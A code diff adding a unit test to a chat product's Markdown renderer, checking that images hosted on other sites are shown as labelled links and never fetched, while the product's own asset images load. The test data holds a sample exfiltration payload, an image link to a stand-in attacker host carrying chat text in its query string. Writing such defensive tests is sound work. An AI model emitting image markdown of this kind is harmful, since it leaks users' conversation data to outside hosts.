@@ -46,6 +46,29 @@ test("shows tables, code blocks with their language, inline code, images and lin
   expect(screen.getByRole("link", { name: "the docs" }).getAttribute("target")).toBe("_blank");
 });
 
+test("loads only the product's own pictures: another site's is a link naming it, never fetched", () => {
+  renderScreen(
+    <Markdown
+      text={[
+        "![Leak](https://evil.example/pixel.png?chat=my%20salary)",
+        "![](//evil.example/p.png)",
+        "![Ours](/api/v1/assets/a1/file)",
+        `![Same origin](${location.origin}/api/v1/assets/a2/file)`,
+      ].join("\n\n")}
+    />,
+  );
+  expect(screen.getAllByRole("img").map((image) => image.getAttribute("src"))).toEqual([
+    "/api/v1/assets/a1/file",
+    `${location.origin}/api/v1/assets/a2/file`,
+  ]);
+  const link = screen.getByRole("link", { name: "Leak (from evil.example, not loaded)" });
+  expect(link.getAttribute("href")).toBe("https://evil.example/pixel.png?chat=my%20salary");
+  expect(link.getAttribute("target")).toBe("_blank");
+  expect(screen.getByRole("link", { name: "A picture (from evil.example, not loaded)" }).getAttribute("href")).toBe(
+    "http://evil.example/p.png",
+  );
+});
+
 test("copies a code block", async () => {
   const writeText = vi.fn(() => Promise.resolve());
   vi.stubGlobal("navigator", { ...navigator, clipboard: { writeText } });
